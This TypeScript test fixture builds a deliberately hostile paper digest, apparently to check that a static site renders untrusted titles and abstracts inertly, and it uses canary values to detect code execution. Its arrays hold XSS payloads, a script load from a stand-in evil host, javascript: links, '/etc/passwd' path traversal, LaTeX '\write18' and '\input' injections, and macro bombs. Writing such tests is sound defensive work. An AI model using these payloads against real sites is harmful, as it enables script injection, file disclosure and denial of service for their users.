/** What hostile text tries to set in the browser; a page in which it is set has run code of a digest. */
export const BROWSER_CANARY = 'hostileCanary';

/** The environment variable that names a file which hostile text tries to write while the site is built. */
export const BUILD_CANARY = 'OFFPRINT_HOSTILE_CANARY';

const WRITE = `require('node:fs').writeFileSync(process.env.${BUILD_CANARY}, 'ran')`;
const MODULE = `import { writeFileSync } from 'node:fs'; writeFileSync(process.env.${BUILD_CANARY}, 'ran');`;
const BROWSER = `window.${BROWSER_CANARY}=1`;

/** Every abstract goes on like one, so that the digest is read as a digest. */
const REST =
  'We study what happens when the text of an abstract is not written by an author but by an adversary, and find that nothing does: it is shown as it stands, in a page like any other, beside pages that are as they were.';

/** Titles that try to be a path, a file, a key or markup. */
const TITLES: readonly string[] = [
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  'CON',
  'aux',
  'null',
  '2025',
  'true',
  '--- !!js/function "x"',
  '!!js/undefined',
  'slug: other-paper # and a comment',
  'layout: ../../layouts/Page.astro',
  '"quoted": \'twice\' `and` {thrice}',
  '[MASK] is all: a $5 and then $10 story',
  '🤖🧠🔥',
  '?!?!...',
  '日本語の題名だけ',
  '\u202eevitagen thgir-ot-tfel\u202c',
  `<script>${BROWSER}</script>`,
  `<img src=x onerror=${BROWSER}>`,
  '{process.exit()}',
  'Same Title',
  'SAME TITLE',
  'A title of four thousand letters '.repeat(121).trim(),
  'constructor',
  '__proto__',
  `$\\htmlData{x=y}{z}$ and $\\href{javascript:${BROWSER}}{z}$`,
];

/** Abstracts that try to run, load, link or break. */
const ABSTRACTS: readonly string[] = [
  `{process.exit()} {${WRITE}} {globalThis.process?.exit(0)}`,
  `<script>${BROWSER}</script> <script src="https://evil.example/x.js"></script> <SCRIPT>${BROWSER}</SCRIPT>`,
  `<img src=x onerror="${BROWSER}"> <svg onload="${BROWSER}"> <iframe src="javascript:parent.${BROWSER}"></iframe>`,
  MODULE,
  `export const canary = ${WRITE};`,
  `export default () => ${WRITE}`,
  `<Component prop={${WRITE}} /> <>fragment</> <a.b /> </unopened> <unclosed`,
  `<!-- a comment --> <!-- ${BROWSER} <?php echo 1 ?> <![CDATA[ x ]]> <!doctype html>`,
  `{{{{{ }}} { ${'`'}\${${WRITE}}${'`'} } }} {/* comment {`,
  `[a link](javascript:${BROWSER}) [b](data:text/html,<script>${BROWSER}</script>) <javascript:${BROWSER}> javascript:${BROWSER}`,
  `[c][d] [d]: javascript:${BROWSER} ![picture](https://evil.example/pixel.png) ![gone](./missing.png)`,
  `$\\href{javascript:${BROWSER}}{x}$ $\\url{javascript:${BROWSER}}$ $\\htmlData{onclick=${BROWSER}}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\includegraphics{https://evil.example/p.png}$`,
  `\\href{javascript:${BROWSER}}{click me} \\url{javascript:${BROWSER}} \\input{/etc/passwd} \\write18{id}`,
  `$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b\\b}\\b$ $\\rule{1000000em}{1000000em}$ $\\kern{99999em}x$`,
  `$${'{'.repeat(500)}x${'}'.repeat(500)}$ ${'\\frac{'.repeat(300)} ${'('.repeat(3000)}`,
  `${'*'.repeat(2000)} ${'_'.repeat(2000)} ${'['.repeat(2000)} ${'`'.repeat(2000)}`,
  `&lt;script&gt;${BROWSER}&lt;/script&gt; &#x3c;script&#x3e; &lbrace;process.exit()&rbrace;`,
  `\\{process.exit()\\} \\\\{process.exit()} \\<script>${BROWSER}\\</script>`,
  `--- layout: /etc/passwd --- +++ # heading > quote | a | b | 1. one - two ~~~ fence`,
  `\u202e right to left \u202c \u2066 isolated \u2069 zero\u200bwidth \ufeff mark \u2028 line \u2029 paragraph`,
];

/**
 * Makes a digest whose text tries everything: code for the build and the browser, markup, links, macro
 * bombs, deep nesting, and titles that are paths, keys or no words at all.
 *
 * @returns the digest's text, and how many papers it has
 */
export function hostileDigest(): { text: string; papers: number } {
  const byTitle = TITLES.map(
    (title, index) => [title, `Number ${index} of these. ${REST}`] as const,
  );
  const byAbstract = ABSTRACTS.map(
    (abstract, index) => [`Adversary Number ${index}`, `${abstract} ${REST}`] as const,
  );
  const entries = [...byTitle, ...byAbstract].map(
    ([title, abstract], index) =>
      `${title}\n\n${abstract}\n\n  • ${index + 1} authors\n·\nMay ${1 + (index % 28)}, 2020\n\n`,
  );
  return { text: `Daily Papers\n\nNov 13\n\n${entries.join('')}`, papers: entries.length };
}
